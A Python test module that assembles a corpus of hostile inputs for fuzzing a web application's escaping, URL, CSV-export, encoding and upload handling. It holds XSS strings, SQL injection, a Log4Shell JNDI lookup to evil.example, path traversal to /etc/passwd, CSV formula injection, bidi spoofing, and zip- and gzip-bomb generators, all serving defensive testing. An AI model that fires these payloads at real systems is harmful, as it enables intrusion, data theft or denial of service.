"""The hostile-input corpus: payloads a desk meets when it pastes from the web, and the ones an
attacker would try. Big inputs (1 MB fields, zip bombs, 100k nested tags) are generated when a
test asks for them, never stored in the repository."""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from functools import cache
from typing import Any

# --- markup that must never reach a page unescaped -------------------------------------------

# Each is a prefix that only an unescaped payload can produce in a page's HTML.
RAW_MARKERS = (
    "<script>alert(",
    "<img src=x onerror=",
    "<svg onload=",
    "<iframe src=javascript:",
    '" onmouseover="alert(',
    "' onfocus='alert(",
    "<a href=javascript:",
    "</textarea><b>hostile",
    "<body onload=",
)
SCRIPTS = (
    '<script>alert("hostile")</script>',
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    'x" onmouseover="alert(1)',
    "x' onfocus='alert(1)' autofocus='",
    "<a href=javascript:alert(1)>click</a>",
    "</textarea><b>hostile</b>",
    "<body onload=alert(1)>",
    "<!--",
    "]]>",
    "{{ 7*7 }}{% raw %}",
    "${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
)

# --- URLs that must never become links ---------------------------------------------------------

DANGEROUS_SCHEMES = ("javascript:", "data:", "file:", "vbscript:")
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&#58;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "FILE://C:/Windows/win.ini",
    "vbscript:msgbox(1)",
    "//evil.example/path",
    "http://",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/\u202egpj.exe",
    "https://exa mple.com/",
    "http://[::1]:99999/",
    "https://example.com/" + "a" * 2100,
)

# --- spreadsheet formulas (OWASP CSV injection) ---------------------------------------------

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "=1+1",
)

# --- text that breaks encodings, databases and layouts -------------------------------------

NUL_TEXTS = ("\x00", "claim\x00text", "\x00\x00\x00", "ok text\x00")
SURROGATES = ("\ud800", "x\udfffy", "\udc80\ud800", "surrogate \udbff end")
BIDI = (
    "\u202eevil\u202c",
    "invoice\u202efdp.exe",
    "\u2066isolate\u2069",
    "\u200f\u061c\u200e",
    "\u202a\u202b\u202d\u202e",
)
ODD_UNICODE = (
    "\ufeffbom first",
    "zero\u200bwidth",
    "\ufffd\ufffd",
    "𝕳𝖔𝖘𝖙𝖎𝖑𝖊",
    "Z\u0335\u0322\u031ba\u0336l\u0335g\u0337o\u0338" * 20,
    "\U0010ffff\U000e0001",
    "\x1b[31mred\x1b[0m",
    "\x7f\x08\x0b\x0c",
    "line\u2028separator\u2029",
    "\r\n\r\n",
    " \t\n ",
    "",
)
SQL_AND_FORMAT = (
    "' OR 1=1 --",
    "'; DROP TABLE claims; --",
    "%",
    "_",
    "\\",
    "%_%\\%",
    "%s%s%s%n",
    "{0}{1}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "NULL",
    "None",
)
STRINGS = (
    *SCRIPTS,
    *URLS,
    *FORMULAS,
    *NUL_TEXTS,
    *SURROGATES,
    *BIDI,
    *ODD_UNICODE,
    *SQL_AND_FORMAT,
)

# Raw bytes that are not UTF-8 (sent percent-encoded or raw, never decoded by the test).
INVALID_UTF8 = (
    b"\xff",
    b"\xc3\x28",
    b"\xed\xa0\x80",  # a UTF-8 encoded surrogate
    b"\xf8\x88\x80\x80\x80",
    b"\x80abc",
    b"abc\xe2\x82",
    b"\xc0\xaf",  # overlong "/"
)

# --- numbers, verdicts and the like ---------------------------------------------------------

NUMBER_TEXTS = (
    "NaN",
    "nan",
    "-1",
    "1e309",
    "-1e309",
    "abc",
    "Infinity",
    "-Infinity",
    "inf",
    "sNaN",
    "-sNaN",
    "1e-400",
    "0x10",
    "\uff11\uff10\uff10",  # full-width 100
    "100.0000001",
    "101",
    "-0",
    "+50",
    "1_000",
    "9" * 400,
    "50%",
    "5,5",
    "",
    " ",
    "2147483648",
    "-2147483649",
    "18446744073709551616",
)
# JSON numbers and non-numbers for the API's numeric fields.
JSON_NUMBERS: tuple[object, ...] = (
    -1,
    1.0000001,
    2,
    -0.0,
    1e308,
    1e-320,
    10**40,
    -(10**40),
    "0.5",
    "abc",
    True,
    None,
    [0.5],
    {"value": 0.5},
)
# Raw JSON number texts that Python's json would read but JSON does not allow.
RAW_JSON_NUMBERS = ("NaN", "Infinity", "-Infinity", "1e309", "-1e309", "0x10", "01", "+1", ".5")
VERDICT_TEXTS = (
    "maybe",
    "TRUE",
    "true ",
    "pants on fire",
    "mostly_false",
    "half-true",
    "unreviewed\x00",
    "<script>alert(1)</script>",
    "false\u202e",
    "",
    "1",
)
IDS = (
    *("0", "-1", "abc", "1e3", "2147483648", "99999999999999999999", "1.5", " 1", ""),
    *(
        "\u00b2",
        "\u0661\u0662",
        "\U0001d7cf\U0001d7d0",
        "\uff11",
    ),  # ², Arabic-Indic, math, full-width
)


# --- big inputs, generated on demand ---------------------------------------------------------

MB = 1_000_000


class Big(str):
    """A big payload that reports (in hypothesis' failure reports too) only its size."""

    __slots__ = ()

    def __repr__(self) -> str:
        return f"<{len(self):,} characters: {str.__repr__(self[:40])}…>"

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
        printer.text(repr(self))


@cache
def megabyte_field(char: str = "A") -> Big:
    """A 1 MB field."""
    return Big(char * MB)


@cache
def big_text(size: int = MB) -> Big:
    """About ``size`` bytes of text with a script payload in the middle."""
    line = "The parliament ratified the treaty on Monday, officials said. "
    body = line * (size // len(line))
    half = len(body) // 2
    return Big(body[:half] + SCRIPTS[0] + body[half:])


@cache
def nested_html(depth: int = 100_000, tag: str = "div") -> bytes:
    """HTML with ``depth`` nested elements around one sentence."""
    inner = "<p>The council approved the budget on Tuesday.</p>"
    return (f"<{tag}>" * depth + inner + f"</{tag}>" * depth).encode()


@cache
def zip_bomb(expanded: int = 50 * MB) -> bytes:
    """A small .zip that expands to ``expanded`` bytes (uploaded renamed as .txt or .html)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.txt", b"0" * expanded)
    return buffer.getvalue()


@cache
def gzip_bomb(expanded: int = 50 * MB) -> bytes:
    return gzip.compress(b"A" * expanded, compresslevel=9, mtime=0)


HTML_DOCUMENTS = (
    b"<html><head><title>Hostile <script>alert(1)</script></title>"
    b'<meta name="author" content="&lt;img src=x onerror=alert(1)&gt;">'
    b'<link rel="canonical" href="javascript:alert(1)"></head>'
    b"<body><p>The mayor said the bridge will reopen in May.</p>"
    b"<script>alert('hostile')</script><img src=x onerror=alert(1)></body></html>",
    b'<html><head><meta property="og:url" content="data:text/html,<script>alert(1)</script>">'
    b'<meta property="og:site_name" content="=cmd|\' /C calc\'!A0"></head>'
    b"<body><p>Officials confirmed the figures on Friday.</p></body></html>",
    b"<svg onload=alert(1)><p>" + "\u202eevil text\u202c".encode() + b"</p>",
    b"<<<<>>>><p>unbalanced</p></div></div></span>",
)


def binary_blobs() -> tuple[tuple[str, bytes], ...]:
    """(what, bytes) of uploads that are not text, whatever their name says."""
    return (
        ("zip bomb", zip_bomb()),
        ("gzip bomb", gzip_bomb()),
        ("UTF-16", "The text in UTF-16.".encode("utf-16")),
        ("NUL bytes", b"text\x00with NUL"),
        ("invalid UTF-8", b"caf\xe9 au lait " * 10),
        ("PNG", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4),
        ("control characters", bytes(range(1, 32)) * 20),
        ("empty", b""),
        ("white space", b" \n\t\r\n"),
    )


# --- JSON bodies -----------------------------------------------------------------------------


def deep_json(depth: int, opener: str = "[") -> str:
    closer = {"[": "]", "{": "}"}[opener]
    if opener == "{":
        return '{"a":' * depth + "1" + "}" * depth
    return opener * depth + closer * depth


def huge_json(items: int) -> str:
    return json.dumps({"text": "x", "evidence": [{"quote": "y" * 100}] * items})
